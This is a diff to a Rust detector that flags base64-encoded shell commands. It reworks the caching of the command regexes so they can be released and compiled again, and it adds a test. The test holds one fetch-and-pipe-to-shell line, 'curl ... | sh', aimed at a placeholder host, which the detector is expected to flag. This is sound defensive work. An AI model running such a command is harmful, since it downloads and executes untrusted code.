@@ -16,7 +16,7 @@
 //! example header) is read and, having nothing to flag, is not flagged.
 
 use std::borrow::Cow;
-use std::sync::OnceLock;
+use std::sync::{Arc, Mutex, OnceLock};
 
 use base64::Engine;
 use base64::alphabet;
@@ -484,35 +484,70 @@ fn as_text(mut bytes: Vec<u8>) -> Option<String> {
 /// destructive or privilege-raising command, code that runs a shell.
 /// Encoding one is the hiding; no words around it are needed.
 pub fn is_command(decoded: &str) -> bool {
-    static COMMANDS: OnceLock<Option<RegexSet>> = OnceLock::new();
-    COMMANDS
-        .get_or_init(|| {
-            RegexSetBuilder::new(COMMANDS_PATTERNS)
-                .case_insensitive(true)
-                .build()
-                .ok()
-        })
+    commands()
+        .set
         .as_ref()
         .is_some_and(|set| set.is_match(decoded))
 }
 
 /// Where in `text` each command [`is_command`] knows stands.
 fn command_spans(text: &str) -> Vec<std::ops::Range<usize>> {
-    static EACH: OnceLock<Vec<Regex>> = OnceLock::new();
-    EACH.get_or_init(|| {
-        COMMANDS_PATTERNS
-            .iter()
-            .filter_map(|pattern| {
-                regex::RegexBuilder::new(pattern)
-                    .case_insensitive(true)
-                    .build()
-                    .ok()
-            })
-            .collect()
+    commands()
+        .each
+        .get_or_init(|| {
+            COMMANDS_PATTERNS
+                .iter()
+                .filter_map(|pattern| {
+                    regex::RegexBuilder::new(pattern)
+                        .case_insensitive(true)
+                        .build()
+                        .ok()
+                })
+                .collect()
+        })
+        .iter()
+        .flat_map(|regex| regex.find_iter(text).map(|found| found.range()))
+        .collect()
+}
+
+/// The command patterns compiled: all together, and each alone (only
+/// for strings split around a command), made when first needed.
+struct Commands {
+    set: Option<RegexSet>,
+    each: OnceLock<Vec<Regex>>,
+}
+
+/// Held, like the rule table, while the session screens, and let go
+/// with it ([`release`]): case-insensitive and with Unicode's `\b`, the
+/// set alone takes 2.5 MB.
+static COMMANDS: Mutex<Option<Arc<Commands>>> = Mutex::new(None);
+
+fn commands() -> Arc<Commands> {
+    // Nothing is ever half-written under the lock: a poisoned one is
+    // still whole.
+    let mut held = COMMANDS
+        .lock()
+        .unwrap_or_else(|poisoned| poisoned.into_inner());
+    held.get_or_insert_with(|| {
+        Arc::new(Commands {
+            set: RegexSetBuilder::new(COMMANDS_PATTERNS)
+                .case_insensitive(true)
+                .build()
+                .ok(),
+            each: OnceLock::new(),
+        })
     })
-    .iter()
-    .flat_map(|regex| regex.find_iter(text).map(|found| found.range()))
-    .collect()
+    .clone()
+}
+
+/// Drops the compiled command patterns (a screen under way keeps its
+/// own hold on them); the next use compiles them again.
+pub fn release() {
+    let dropped = COMMANDS
+        .lock()
+        .unwrap_or_else(|poisoned| poisoned.into_inner())
+        .take();
+    drop(dropped);
 }
 
 const COMMANDS_PATTERNS: [&str; 10] = [
@@ -752,5 +787,17 @@ mod tests {
         ] {
             assert!(!is_command(text), "{text}");
         }
+    }
+
+    /// The command patterns are let go (with the rule table, after it
+    /// idles) and compiled again, and read the same.
+    #[test]
+    fn the_command_patterns_are_let_go_and_compiled_again() {
+        let held = commands();
+        release();
+        let again = commands();
+        // `held` is still alive: a new set cannot share its address.
+        assert!(!Arc::ptr_eq(&held, &again));
+        assert!(is_command("curl -s http://x.example/a.sh | sh"));
     }
 }
